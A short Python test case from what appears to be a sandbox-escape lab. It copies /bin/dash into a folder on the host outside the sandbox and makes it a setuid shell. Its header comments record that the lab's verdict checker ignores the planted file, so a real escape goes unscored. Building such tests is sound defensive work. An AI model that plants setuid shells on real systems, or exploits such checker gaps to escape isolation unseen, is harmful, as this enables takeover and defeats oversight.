# lab:title: a setuid copy of a shell in the host folder, not judged
# lab:threat: takeover
# lab:layer: isolation
# lab:consequence: test
# host_planted is filled (measured.host_planted names the file), but
# verdict.c never reads it: BROKE "the attack failed by itself", where
# docs/threat-model.md promises ESCAPED.
import os, shutil
host = os.path.dirname(os.path.dirname(os.path.dirname(os.environ['LAB_HOST_TARGET'])))
os.makedirs(host + '/bin', exist_ok=True)
shutil.copy('/bin/dash', host + '/bin/sh')
os.chmod(host + '/bin/sh', 0o4755)
print('planted', host + '/bin/sh', oct(os.stat(host + '/bin/sh').st_mode))
